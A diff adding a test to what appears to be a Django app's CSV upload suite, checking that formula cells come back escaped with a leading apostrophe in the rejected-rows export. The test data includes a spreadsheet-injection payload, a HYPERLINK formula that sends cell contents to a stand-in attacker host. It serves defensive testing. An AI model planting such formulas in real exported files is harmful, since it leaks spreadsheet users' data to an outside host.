@@ -679,3 +679,15 @@ def test_an_uploaded_list_is_not_refrozen_or_edited_as_rules(org: Org, client: C
     assert list(
         SegmentMember.objects.filter(segment=segment).values_list("member_id", flat=True)
     ) == [org.member_b1.pk]
+
+
+def test_a_formula_in_the_file_comes_back_inert_in_the_rejected_rows(
+    org: Org, client: Client
+) -> None:
+    client.force_login(org.hq_operator)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    content = csv_bytes([["手机号"], [org.member_b1.phone], [formula], ["@SUM(1+1)"]])
+    assert upload(client, content).status_code == 302
+    segment = Segment.objects.get()
+    values = [row[1] for row in rejected_csv(client, segment)[1:]]
+    assert values == ["'" + formula, "'@SUM(1+1)"]
